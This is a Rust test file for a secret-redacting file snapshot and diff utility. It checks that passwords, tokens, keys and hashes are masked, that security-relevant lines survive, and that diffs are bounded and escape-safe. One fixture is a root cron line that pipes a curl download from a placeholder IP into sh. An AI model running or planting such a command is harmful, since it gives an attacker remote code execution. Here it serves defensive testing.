//! What is kept, what is taken out, and how a difference reads.

use proptest::prelude::*;

use super::redact::MARK;
use super::*;

fn kept(text: &str) -> Kept {
    keep(text.as_bytes()).unwrap()
}

#[test]
fn only_text_of_a_bounded_size_is_kept() {
    for bytes in [&b"a\0b"[..], b"\xff\xfe", &[b'a'; MAX_BYTES + 1], "\n".repeat(MAX_LINES + 1).as_bytes()] {
        assert_eq!(keep(bytes), None);
    }
    assert!(keep(&[b' '; MAX_BYTES]).is_some() && keep(b"").is_some());
    assert_eq!(keep(b"-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n"), None);
    assert_eq!(keep(b"PuTTY-User-Key-File-3: ssh-rsa\n"), None);
}

#[test]
fn secrets_are_taken_out_and_the_line_is_still_there() {
    for (line, expected) in [
        ("password = hunter2 # mine", "password = [secret]"),
        ("DB_PASSWORD=hunter2", "DB_PASSWORD=[secret]"),
        ("Environment=\"A=b\" \"API_TOKEN=xyz\"", "Environment=\"A=b\" \"API_TOKEN=[secret]"),
        ("  \"secret\": \"abc\",", "  \"secret\": [secret]"),
        ("api-key: abcdef", "api-key: [secret]"),
        ("secret=a b", "secret=[secret]"),
        ("password hunter2", "password [secret]"),
        ("* * * * * root backup --token abc /x", "* * * * * root backup --token [secret]"),
        ("ExecStart=/bin/x --password=abc", "ExecStart=/bin/x --password=[secret]"),
        ("baseurl=https://bob:pw@h/x y", "baseurl=https://[secret]@h/x y"),
        ("deb https://ghtoken@h/x y", "deb https://[secret]@h/x y"),
        ("postgres://u:p@h/db", "postgres://[secret]@h/db"),
        ("root:$6$salt$abcdefghijklmnop:19000:0:99999:7:::", "root:[secret]:19000:0:99999:7:::"),
        ("root:abJnggxhB/yWI:0:0:root:/root:/bin/sh", "root:[secret]:0:0:root:/root:/bin/sh"),
        ("x $y$j9T$abcdefghijkl$mnopqrstuvwxyz z", "x [secret] z"),
        ("x {SSHA}abcdefghijklmnopqrst", "x [secret]"),
        ("use ghp_abcdefghijklmnop1234", "use [secret]"),
        ("Authorization: Bearer abc", "Authorization: [secret]"),
    ] {
        assert_eq!(kept(line).as_str(), expected);
    }
    let long = format!("x {}", "aB3".repeat(40));
    assert_eq!(kept(&long).as_str(), "x [secret]");
}

#[test]
fn an_access_key_is_taken_out_however_it_is_called() {
    let secret = ["wJalrXUtnFEMIx7MDENGzb", "PxRfiCYq8tQ2Lk5vZs"].concat();
    let text = format!("key AKIA{} and {secret} beside\nmore\n", "Z7QH2M4T6B3N5KXW");
    let kept = kept(&text);
    assert!(!kept.as_str().contains(&secret), "{}", kept.as_str());
    assert!(kept.as_str().contains("beside\nmore\n"));
}

#[test]
fn the_lines_of_a_key_within_a_file_are_taken_out() {
    let text = "remote x\n<key>\n-----BEGIN PRIVATE KEY-----\nMIIE\nabc\n-----END PRIVATE KEY-----\n</key>\n";
    assert_eq!(kept(text).as_str(), format!("remote x\n<key>\n{MARK}\n{MARK}\n{MARK}\n{MARK}\n</key>\n"));
    let torn = "a\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc";
    assert_eq!(kept(torn).as_str(), format!("a\n{MARK}\n{MARK}\n{MARK}"));
}

#[test]
fn what_a_difference_is_read_for_stays() {
    for line in [
        "PasswordAuthentication yes",
        "PermitEmptyPasswords no",
        "PasswordAuthentication=yes",
        "HostKey /etc/ssh/ssh_host_rsa_key",
        "AuthorizedKeysFile .ssh/authorized_keys",
        "password requisite pam_pwquality.so retry=3",
        "password [success=1 default=ignore] pam_unix.so obscure yescrypt",
        "passwd: files systemd",
        "passwd:         files sss [NOTFOUND=return]",
        "root:x:0:0:root:/root:/bin/bash",
        "gpgkey=file:///etc/pki/rpm-gpg/RPM-GPG-KEY-redhat-release",
        "-w /etc/passwd -F key=identity",
        "UUID=0a3407de-014b-458b-b5c1-848e92a327a3 / ext4 defaults 0 1",
        "bob ALL=(ALL) NOPASSWD: ALL",
        "bob ALL=(root) PASSWD: /bin/a, NOPASSWD: /bin/b",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBobO0xXmMpQ0wYv7p1o5rXb2cX3d4e5f6g7h8i9j0kL bob@host",
        "ExecStart=/usr/lib/systemd/systemd-journald --flag",
        "net.ipv4.ip_forward = 1",
        "deb http://deb.debian.org/debian bookworm main",
        "*/5 * * * * root curl http://203.0.113.9/x | sh",
    ] {
        assert_eq!(kept(line).as_str(), line);
    }
    let rsa = format!("ssh-rsa AAAAB3NzaC1yc2E{} bob", "aB3/".repeat(90));
    assert_eq!(kept(&rsa).as_str(), rsa);
}

#[test]
fn a_difference_has_a_line_around_what_went_and_came() {
    let (before, after) = (kept("a\nb\nc\nd\ne\nf\n"), kept("a\nb\nC\nd\ne\nf\ng\n"));
    assert_eq!(difference(&before, &after), "@@ -2,3 +2,3 @@\n b\n-c\n+C\n d\n@@ -6,2 +6,3 @@\n f\n+g\n \n");
    assert_eq!(difference(&before, &before), "");
    assert_eq!(difference(&kept("password=a"), &kept("password=b")), "");
}

#[test]
fn a_long_difference_is_cut_and_says_by_how_much() {
    let many: String = (0..1_000).map(|number| format!("{number}\n")).collect();
    let told = difference(&kept(""), &kept(&many));
    assert_eq!(told.lines().count(), 40);
    assert!(told.ends_with("… 963 more lines\n"), "{told}");
    let wide = format!("{}\n", "x ".repeat(1_500)).repeat(20);
    let told = difference(&kept(""), &kept(&wide));
    assert!(told.len() <= 4 * 1024 && told.contains("more lines"), "{told}");
}

#[test]
fn no_line_can_forge_another() {
    let told = difference(&kept("a\n"), &kept("a\n\u{1b}[2Jb\rc\u{202e}\n"));
    assert!(told.contains("+\\x1b[2Jb\\rc\\u{202e}\n"), "{told}");
}

proptest! {
    #[test]
    fn no_text_makes_it_panic_and_no_difference_outgrows_its_bounds(
        before in "(key|password|[a-c=: $/@\"\u{e9}\n]|https://|-----BEGIN PRIVATE KEY-----|-----END ){0,60}",
        after in "(token|--secret |[a-c=: $/@\"\u{e9}\n]|[$]6[$]|eyJ){0,60}",
    ) {
        let (Some(before), Some(after)) = (keep(before.as_bytes()), keep(after.as_bytes())) else { return Ok(()) };
        let told = difference(&before, &after);
        prop_assert!(told.lines().count() <= 40 && told.len() <= 4_096);
    }

    #[test]
    fn a_password_that_is_called_one_never_stays(
        name in "[a-z]{0,5}(password|PASSWD|secret|Token|api_key)",
        separator in " ?[=:] ?",
        secret in "[A-Z][a-z0-9]{8,20}",
        before in "[a-z ]{0,8}",
    ) {
        let line = format!("{before} {name}{separator}{secret}");
        let kept = kept(&line);
        prop_assert!(!kept.as_str().contains(&secret), "{} -> {}", line, kept.as_str());
    }
}
